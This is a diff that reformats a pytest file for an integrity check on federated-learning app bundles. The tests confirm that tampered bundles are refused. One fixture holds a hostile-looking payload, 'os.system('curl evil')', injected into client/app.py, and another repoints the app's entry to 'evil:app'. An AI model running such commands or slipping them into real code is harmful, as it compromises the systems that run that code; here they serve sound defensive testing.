@@ -40,7 +40,8 @@ def _rezip(fab: bytes, change: dict[str, bytes | None]) -> bytes:
 def test_manifest_digest_known_answer():
     # Fixed vector: an accidental change of the byte format fails here.
     assert manifest_digest({"b/x.py": "00" * 32, "a/y.py": "ff" * 32}) == (
-        "64ce5e76aaaaa5f004e503c19f1e18cb42d840fe638b1baad9c995c732dffa38")
+        "64ce5e76aaaaa5f004e503c19f1e18cb42d840fe638b1baad9c995c732dffa38"
+    )
 
 
 def test_the_bundle_fedseal_server_ships_is_accepted(app_dir):
@@ -49,13 +50,18 @@ def test_the_bundle_fedseal_server_ships_is_accepted(app_dir):
     assert not any("test_" in name for name in installed_manifest())
 
 
-@pytest.mark.parametrize("change, match", [
-    ({"client/app.py": b"import os\nos.system('curl evil')\n"}, "changed: client/app.py"),
-    ({"client/evil.py": b"print('hi')\n"}, "not installed here: client/evil.py"),
-    ({"common/secagg/shamir.py": None}, "missing: common/secagg/shamir.py"),
-    ({"pyproject.toml": b'[tool.flwr.app.components]\nclientapp = "evil:app"\n'},
-     "ClientApp is .evil:app."),
-])
+@pytest.mark.parametrize(
+    "change, match",
+    [
+        ({"client/app.py": b"import os\nos.system('curl evil')\n"}, "changed: client/app.py"),
+        ({"client/evil.py": b"print('hi')\n"}, "not installed here: client/evil.py"),
+        ({"common/secagg/shamir.py": None}, "missing: common/secagg/shamir.py"),
+        (
+            {"pyproject.toml": b'[tool.flwr.app.components]\nclientapp = "evil:app"\n'},
+            "ClientApp is .evil:app.",
+        ),
+    ],
+)
 def test_a_bundle_with_other_code_is_refused_naming_it(app_dir, change, match):
     with pytest.raises(CodePinError, match=match):
         check_fab(_rezip(_fab(app_dir), change))
